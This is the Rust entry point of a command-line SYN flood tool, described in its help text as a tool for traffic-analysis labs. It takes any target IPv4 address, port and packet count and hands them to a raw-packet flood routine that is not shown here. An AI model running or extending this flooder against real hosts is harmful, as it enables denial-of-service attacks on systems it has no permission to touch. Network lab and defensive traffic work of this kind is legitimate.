mod error;
mod flood;
mod packet;
mod sender;
mod source;

use crate::error::FloodError;
use crate::flood::{FloodRequest, DEFAULT_COUNT, DEFAULT_PORT};
use crate::sender::RawSender;

use anyhow::{Context, Result};
use clap::Parser;
use std::net::Ipv4Addr;
use tracing::warn;
use tracing_subscriber::EnvFilter;

#[derive(Parser, Debug)]
#[command(version, about = "Send TCP SYN packets to a target for traffic-analysis labs", long_about = None)]
struct Args {
    /// Destination IPv4 address
    target: Ipv4Addr,

    /// Destination TCP port
    #[arg(long, default_value_t = DEFAULT_PORT)]
    port: u16,

    /// Number of SYN packets to send
    #[arg(long, default_value_t = DEFAULT_COUNT, allow_negative_numbers = true)]
    count: i64,
}

fn main() -> Result<()> {
    let args = Args::parse();

    tracing_subscriber::fmt()
        .with_env_filter(EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info")))
        .with_target(false)
        .init();

    let request = FloodRequest::new(args.target, args.port, args.count);
    let mut sender = RawSender::open().map_err(FloodError::Channel)?;

    let summary = flood::run(&request, &mut sender)
        .with_context(|| format!("SYN flood to {}:{} aborted", request.target, request.port))?;
    if summary.sent == 0 {
        warn!("Nothing sent, count was {}", request.count);
    }

    Ok(())
}
